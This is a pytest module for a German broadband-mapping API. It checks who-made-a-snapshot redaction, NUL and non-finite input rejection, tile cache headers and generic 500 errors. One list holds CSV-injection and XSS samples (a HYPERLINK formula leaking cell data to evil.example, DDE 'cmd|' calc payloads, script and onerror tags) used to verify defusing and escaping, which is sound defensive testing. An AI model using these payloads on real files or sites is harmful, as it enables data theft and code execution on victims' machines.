"""Hold-out round 11 (an attacker and a careless client): the gigabit processes and the market-exploration outputs.

- ``gigabit-snapshots`` is open to every ``read`` key (the QGIS plugin's snapshot chooser): it named the person or
  key behind each snapshot in full (``city:analyst``) to keys of other organizations, which the change feed shows
  only as the organization (``authz.shown_actor``; full names need ``read:staff``).
- ``gigabit-funding-areas`` took any snapshot text up to 100 characters to PostgreSQL: a NUL came back as the
  400 "failed: DataError: PostgreSQL text fields cannot contain NUL (0x00) bytes" (the database's words); now the
  snapshot name is checked as ``gigabit-classify`` checks it.
- ``gigabit mev-import`` writes the operators' rows it could not match to ``<operator>_unmatched.csv``: a street
  cell ``=HYPERLINK(…)`` from an operator's file is written as it came, a formula to Excel (OWASP CSV injection;
  ``gigabit/mev_report.py::write_german_csv``, shared code outside this round's files, was given the reports'
  ``inert`` rule by another helper in the same session; the test holds it).
  The same rows reach the API's HTML pages escaped.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import auth
from tests.test_gigabit_mev_journey import _run

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def api(db_url, api_data):
    """The app with server errors answered as 500 problems (so a 500 fails the test instead of raising)."""
    from fastapi.testclient import TestClient

    from netzatlas.api.app import create_app

    with TestClient(create_app(db_url), raise_server_exceptions=False) as c:
        yield c


def _problem(r, status: int) -> dict:
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/problem+json"), r.headers
    return r.json()


# ------------------------------------------------------------------------------------------ who made a snapshot
@pytest.fixture(scope="module")
def keys11(db_url, api_keys) -> dict[str, str]:
    """Keys this module adds: another organization's staff reader (read:staff)."""
    from netzatlas.api.auth import create_key
    from netzatlas.registry.db import connect

    with connect(db_url) as c:
        keys = {"stawag_staff": create_key(c, "stawag", ["read", "read:staff"], "staff11")}
        c.commit()
    return {**api_keys, **keys}


@pytest.fixture(scope="module")
def made_by_analyst(api, keys11, db_url) -> str:
    from netzatlas.registry.db import connect

    snap = "api11 Stand des Analysten"
    r = api.post("/processes/gigabit-classify/execution", headers=auth(keys11["analyst"]),
                 json={"inputs": {"snapshot": snap, "reference_date": "2026-11-30"}})
    assert r.status_code == 200, r.text
    with connect(db_url) as c:
        assert c.execute("SELECT created_by FROM registry.gigabit_snapshot WHERE id = %s",
                         [snap]).fetchone()["created_by"] == "city:analyst"
    return snap


def _maker(api, key: str, snap: str) -> str | None:
    r = api.post("/processes/gigabit-snapshots/execution", headers=auth(key), json={"inputs": {}})
    assert r.status_code == 200, r.text
    (row,) = [s for s in r.json()["snapshots"] if s["id"] == snap]
    return row["created_by"]


@pytest.mark.parametrize(("key", "shown"), [
    ("stawag", "city"),                # another organization's read key: the organization, not the person
    ("reader", "city:analyst"),        # the maker's own organization
    ("admin", "city:analyst"),
    ("stawag_staff", "city:analyst"),  # read:staff
])
def test_the_snapshot_list_names_the_maker_as_the_change_feed_does(api, keys11, db_url, made_by_analyst, key,
                                                                    shown):
    from netzatlas.registry.db import connect

    assert _maker(api, keys11[key], made_by_analyst) == shown
    with connect(db_url) as c:  # the stored name stays whole
        assert c.execute("SELECT created_by FROM registry.gigabit_snapshot WHERE id = %s",
                         [made_by_analyst]).fetchone()["created_by"] == "city:analyst"


def test_the_snapshot_list_as_an_async_job_hides_the_maker_too(api, keys11, made_by_analyst):
    r = api.post("/processes/gigabit-snapshots/execution", headers={**auth(keys11["stawag"]),
                                                                    "Prefer": "respond-async"}, json={"inputs": {}})
    assert r.status_code == 201, r.text
    import time

    for _ in range(200):
        status = api.get(r.headers["Location"], headers=auth(keys11["stawag"])).json()["status"]
        if status not in ("accepted", "running"):
            break
        time.sleep(0.05)
    res = api.get(r.headers["Location"] + "/results", headers=auth(keys11["stawag"]))
    assert res.status_code == 200, res.text
    assert {s["created_by"] for s in res.json()["snapshots"] if s["id"] == made_by_analyst} == {"city"}


# ------------------------------------------------------------------------------------------ funding areas' snapshot
def _funding_state(db_url: str) -> tuple[int, int, int]:
    from netzatlas.registry.db import connect

    with connect(db_url) as c:
        return tuple(c.execute("SELECT (SELECT count(*) FROM registry.funding_area), (SELECT count(*) FROM "
                               "registry.result_run), (SELECT count(*) FROM audit.change)").fetchone().values())


@pytest.mark.parametrize(("snap", "says"), [("a\x00b", "NUL character"), ("mev\n2026", "control character"),
                                            ("\tmev-2026", "blank"), (" ", "needs a name")])
def test_funding_areas_refuse_a_snapshot_name_no_snapshot_can_have(api, api_keys, db_url, snap, says):
    before = _funding_state(db_url)
    r = api.post("/processes/gigabit-funding-areas/execution", headers=auth(api_keys["analyst"]),
                 json={"inputs": {"snapshot": snap}})
    detail = _problem(r, 400)["detail"]
    assert says in detail and "DataError" not in detail and "PostgreSQL" not in detail, detail
    assert _funding_state(db_url) == before


def test_funding_areas_of_a_snapshot_that_is_not_there_stay_404(api, api_keys, db_url):
    before = _funding_state(db_url)
    r = api.post("/processes/gigabit-funding-areas/execution", headers=auth(api_keys["analyst"]),
                 json={"inputs": {"snapshot": "../../gigabit_snapshot"}})
    assert "../../gigabit_snapshot" in _problem(r, 404)["detail"]
    assert _funding_state(db_url) == before


@pytest.mark.parametrize(("name", "raw"), [("link_distance_m", "NaN"), ("eur_per_m", "Infinity"),
                                         ("max_cost_eur", "1" + "0" * 400), ("max_cost_eur", "-" + "9" * 400)])
def test_process_numbers_that_are_no_finite_number_are_400(api, api_keys, db_url, made_by_analyst, name, raw):
    """Python's JSON reads NaN, Infinity and integers of hundreds of digits. NaN passes every minimum and maximum
    (each comparison with NaN is false): the process inputs now refuse them before any analysis (the funding areas
    refused NaN and Infinity themselves; a 401-digit integer reached numpy, the 400 said "TypeError: ufunc
    'isfinite' not supported …")."""
    before = _funding_state(db_url)
    body = '{"inputs": {"snapshot": ' + json.dumps(made_by_analyst) + f', "{name}": {raw}' + "}}"
    r = api.post("/processes/gigabit-funding-areas/execution", content=body,
                 headers={**auth(api_keys["analyst"]), "Content-Type": "application/json"})
    detail = _problem(r, 400)["detail"]
    assert name in detail and "finite number" in detail, detail
    assert _funding_state(db_url) == before


@pytest.mark.parametrize(("process", "inputs"), [
    ("mast-request-evaluation", {"request_id": "00000000-0000-0000-0000-00000000000\x00"}),
    ("gigabit-classify", {"snapshot": "mev-2026\x00"}),
])
def test_a_nul_in_any_text_input_is_400_before_the_process_runs(api, api_keys, db_url, process, inputs):
    """A NUL reached PostgreSQL in the mast request's lookup: 400 "mast-request-evaluation failed: DataError:
    PostgreSQL text fields cannot contain NUL (0x00) bytes" (the database's words, after a connection was taken)."""
    before = _funding_state(db_url)
    r = api.post(f"/processes/{process}/execution", headers=auth(api_keys["admin"]), json={"inputs": inputs})
    detail = _problem(r, 400)["detail"]
    assert "NUL character" in detail and "DataError" not in detail, detail
    assert _funding_state(db_url) == before


# ------------------------------------------------------------------------------------------ tiles and shared caches
@pytest.mark.parametrize(("collection", "key", "cache"), [
    ("gigabit_result", "analyst", "private, max-age=60"),   # confidential: a proxy served it to callers without key
    ("candidate_site", "admin", "private, max-age=60"),
    ("streetlight", None, "public, max-age=60"),            # public, as before
    ("streetlight", "admin", "public, max-age=60"),         # no tile column is sensitive: the same tile for all
])
@pytest.mark.parametrize("tile", ["0/0/0", "14/5520/8465", "24/0/0"])
def test_only_tiles_anyone_gets_alike_may_be_kept_by_shared_caches(api, api_keys, made_by_analyst, collection, key,
                                                                   cache, tile):
    r = api.get(f"/collections/{collection}/tiles/WebMercatorQuad/{tile}", headers=auth(api_keys[key]) if key else {})
    assert r.status_code in (200, 204), r.text
    assert r.headers["cache-control"] == cache
    if key is not None and cache.startswith("private"):
        assert api.get(f"/collections/{collection}/tiles/WebMercatorQuad/{tile}").status_code == 401


# ------------------------------------------------------------------------------------------ market exploration
#: street cells an operator's file may carry; each is an unmatched row (no such street in the register)
HOSTILE_STREETS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "@SUM(1+1)*cmd|' /C calc'!A0",
                   "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "<script>alert(11)</script>weg",
                   '"><img src=x onerror=alert(11)>gasse']


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@dataclass
class Mev:
    url: str        # the scratch registry (the session's database keeps no Aachen data from this module)
    out: Path       # the import's report folder
    api: object     # a TestClient on the scratch registry
    admin: str      # an admin key there


@pytest.fixture(scope="module")
def mev(db_url, tmp_path_factory) -> Iterator[Mev]:
    """A scratch registry with five addresses on the Königstraße and one answer file imported through the CLI: a
    matched row (Königstraße 12) and the hostile streets, unmatched."""
    import geopandas as gpd
    from fastapi.testclient import TestClient
    from shapely.geometry import Point

    from netzatlas.api.app import create_app
    from netzatlas.api.auth import create_key
    from netzatlas.registry.db import connect
    from netzatlas.registry.importers.load import load_layers
    from tests.conftest import _cluster
    from tests.test_gigabit_holdout import new_registry, use

    url, name = new_registry()
    try:
        addrs = gpd.GeoDataFrame({"external_id": [f"K{n}" for n in range(10, 15)], "street": "Königstraße",
                                  "house_number": [str(n) for n in range(10, 15)], "postcode": "52064",
                                  "city": "Aachen"},
                                 geometry=[Point(6.0790 + i * 0.0002, 50.7705) for i in range(5)], crs=4326)
        load_layers({"fibre_address": addrs}, source="api11-register", kind="test", url=url)
        d = tmp_path_factory.mktemp("mev11")
        rows = ["Straße;Hausnummer;PLZ;Download;Upload;Technologie", "Königstraße;12;52064;50;10;VDSL"]
        rows += [f"{_csv_cell(s)};{i + 1};52064;50;10;VDSL" for i, s in enumerate(HOSTILE_STREETS)]
        path = d / "antwort.csv"
        path.write_text("\n".join(rows) + "\n", encoding="utf-8")
        with use(url):
            r = _run(str(path), "--operator", "Api11Netz", "--mev", "mev-api11", "--out", str(d / "out"))
        assert r.exit_code == 0, r.output
        with connect(url) as c:
            admin = create_key(c, "city", ["admin"], "admin11")
            c.commit()
        with TestClient(create_app(url), raise_server_exceptions=False) as client:
            yield Mev(url, d / "out", client, admin)
    finally:
        _cluster().drop_database(name)


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh, delimiter=";") for c in row]


def _one(url: str, query: str) -> object:
    from netzatlas.registry.db import connect

    with connect(url) as c:
        return next(iter(c.execute(query).fetchone().values()))


def test_the_unmatched_rows_are_all_there(mev):
    from netzatlas.registry.db import connect

    with connect(mev.url) as c:
        rows = c.execute("SELECT street FROM registry.mev_unmatched_result WHERE mev_id = 'mev-api11'").fetchall()
    assert sorted(r["street"] for r in rows) == sorted(HOSTILE_STREETS)


def test_the_unmatched_csv_holds_no_formula_excel_would_run(mev):
    """(gigabit/mev_report.py::write_german_csv wrote the cells as they came; made inert in the same session.)"""
    cells = _cells(mev.out / "Api11Netz_unmatched.csv")
    planted = [c for c in cells if any(s in c for s in ("HYPERLINK", "cmd|", "SUM("))]
    assert len(planted) >= 4, cells  # the street, and the detail naming it
    assert {c.lstrip("'") for c in planted} >= set(HOSTILE_STREETS[:4]), planted  # the text itself kept
    assert not [c for c in planted if c.startswith(FORMULA_START)], planted


def test_the_unmatched_csv_keeps_the_numbers_as_numbers(mev):
    """What the fix must not touch: house numbers, postcodes and speeds stay plain (no leading ')."""
    cells = _cells(mev.out / "Api11Netz_unmatched.csv")
    assert "52064" in cells and not [c for c in cells if c.startswith("'") and c[1:].replace(",", "").isdigit()]


@pytest.mark.parametrize("collection", ["mev_unmatched_result", "mev_summary_result"])
def test_mev_pages_escape_what_the_operator_wrote(mev, collection):
    r = mev.api.get(f"/collections/{collection}/items", headers=auth(mev.admin),
                    params={"f": "html", "mev_id": "mev-api11", "limit": 50})
    assert r.status_code == 200, r.text
    page = r.text
    assert "<script>alert(11)" not in page and "<img src=x" not in page
    if collection == "mev_unmatched_result":
        assert "&lt;script&gt;alert(11)&lt;/script&gt;weg" in page
        assert "&#34;&gt;&lt;img src=x onerror=alert(11)&gt;gasse" in page or \
            "&quot;&gt;&lt;img src=x onerror=alert(11)&gt;gasse" in page


@pytest.mark.parametrize("scopes", [["read"], ["read", "write:*"], []])
def test_mev_results_are_confidential(mev, scopes):
    from netzatlas.api.auth import create_key
    from netzatlas.registry.db import connect

    key = None
    if scopes:
        with connect(mev.url) as c:
            key = create_key(c, "stawag", scopes, f"api11-{'-'.join(scopes)}")
            c.commit()
    for collection in ("mev_unmatched_result", "mev_conflict_result", "mev_summary_result"):
        r = mev.api.get(f"/collections/{collection}/items", headers=auth(key) if key else {})
        _problem(r, 403 if key else 401)


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_mev_results_are_never_written_through_the_api(mev, method):
    fid = _one(mev.url, "SELECT id::text FROM registry.mev_unmatched_result WHERE mev_id = 'mev-api11' LIMIT 1")
    before = _one(mev.url, "SELECT count(*) FROM registry.mev_report_row")
    path = "/collections/mev_unmatched_result/items" + ("" if method == "POST" else f"/{fid}")
    body = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [6.08, 50.77]},
            "properties": {"street": "=cmd"}}
    r = mev.api.request(method, path, headers={**auth(mev.admin), "If-Match": 'W/"1"'},
                        json=None if method == "DELETE" else body)
    assert "read-only" in _problem(r, 403)["detail"]
    assert _one(mev.url, "SELECT count(*) FROM registry.mev_report_row") == before


# ------------------------------------------------------------------------------ a fault of the server is a 500
def test_an_unexpected_error_in_a_process_is_a_500_without_its_message(api, api_keys, monkeypatch, caplog):
    """A process that fails with an error netzatlas did not raise on purpose (a bug, a lost connection) was answered
    400 "gigabit-snapshots failed: RuntimeError: <its message>" — the caller blamed, internal words shown. Now: 500
    problem, a generic message, the error logged; the async job's status says the same."""
    import time

    from netzatlas.api import processes

    def broken(inputs, progress, state):
        raise RuntimeError("secret internals: /srv/netzatlas/db.secret")

    real = processes._get("gigabit-snapshots")
    monkeypatch.setitem(processes.PROCESSES, "gigabit-snapshots",
                        processes.Process(**{**real.__dict__, "func": broken}))
    h = auth(api_keys["analyst"])
    with caplog.at_level("ERROR", logger="netzatlas.api"):
        body = _problem(api.post("/processes/gigabit-snapshots/execution", headers=h, json={"inputs": {}}), 500)
    assert "secret" not in json.dumps(body) and "RuntimeError" not in json.dumps(body), body
    assert any("gigabit-snapshots" in r.getMessage() for r in caplog.records)
    r = api.post("/processes/gigabit-snapshots/execution", headers={**h, "Prefer": "respond-async"},
                 json={"inputs": {}})
    assert r.status_code == 201, r.text
    for _ in range(100):
        status = api.get(r.headers["Location"], headers=h).json()
        if status["status"] != "running" and status["status"] != "accepted":
            break
        time.sleep(0.05)
    assert status["status"] == "failed", status
    assert status["message"] == "an unexpected error occurred; it has been logged", status


# ----------------------------------------------------------------------------- result tiles of one snapshot
def _tile_of(lon: float, lat: float, z: int) -> tuple[int, int]:
    import math

    n = 2 ** z
    x = int((lon + 180) / 360 * n)
    y = int((1 - math.asinh(math.tan(math.radians(lat))) / math.pi) / 2 * n)
    return x, y


def test_result_tiles_draw_one_snapshot(api, keys11, db_url):
    """`gigabit_result` tiles drew every kept snapshot one over the other (the classify result advertised them
    without a snapshot). Now `?snapshot_id=` picks one (tiles, tileset links, the classify result's link); a snapshot
    id on a collection without snapshots is a 400."""
    from urllib.parse import quote

    from netzatlas.registry.db import connect

    lon, lat = 6.0412, 50.7932   # an address of this test's own, away from the Markt
    with connect(db_url) as c:
        c.execute("INSERT INTO registry.fibre_address (source, external_id, street, house_number, postcode, geom) "
                  "VALUES ('api11-tiles', 'T1', 'Kachelweg', '1', '52072', "
                  "ST_Transform(ST_SetSRID(ST_MakePoint(%s, %s), 4326), 25832)) "
                  "ON CONFLICT (source, external_id) DO NOTHING", [lon, lat])
        c.commit()
    h = auth(keys11["analyst"])
    snaps = ["api11 Kacheln A", "api11 Kacheln B"]
    for snap, ref in zip(snaps, ("2026-11-30", "2026-12-01"), strict=True):
        r = api.post("/processes/gigabit-classify/execution", headers=h,
                     json={"inputs": {"snapshot": snap, "reference_date": ref}})
        assert r.status_code == 200, r.text
    assert r.json()["tiles"] == f"/collections/gigabit_result/tiles/WebMercatorQuad?snapshot_id={quote(snaps[1])}"
    x, y = _tile_of(lon, lat, 16)
    tile = f"/collections/gigabit_result/tiles/WebMercatorQuad/16/{y}/{x}"
    both = api.get(tile, headers=h)
    one = api.get(tile, headers=h, params={"snapshot_id": snaps[0]})
    assert both.status_code == 200 and one.status_code == 200, (both.text, one.text)
    assert len(one.content) < len(both.content)   # the same addresses once, not once per snapshot
    assert api.get(tile, headers=h, params={"snapshot_id": "api11 keiner"}).status_code == 204
    meta = api.get("/collections/gigabit_result/tiles/WebMercatorQuad", headers=h,
                   params={"snapshot_id": snaps[0]}).json()
    assert all(t.endswith(f"?snapshot_id={quote(snaps[0])}") for t in meta["tiles"]), meta["tiles"]
    assert any(link["rel"] == "item" and link["href"].endswith(f"?snapshot_id={quote(snaps[0])}")
               for link in meta["links"]), meta["links"]
    body = _problem(api.get(f"/collections/streetlight/tiles/WebMercatorQuad/16/{y}/{x}", headers=h,
                            params={"snapshot_id": snaps[0]}), 400)
    assert "streetlight has no snapshots" in body["detail"], body
    for bad in ("a\x00b", "a\nb", " api11"):  # a NUL was a 500 (it reached PostgreSQL)
        _problem(api.get(tile, headers=h, params={"snapshot_id": bad}), 400)
        _problem(api.get("/collections/gigabit_result/tiles/WebMercatorQuad", headers=h,
                         params={"snapshot_id": bad}), 400)
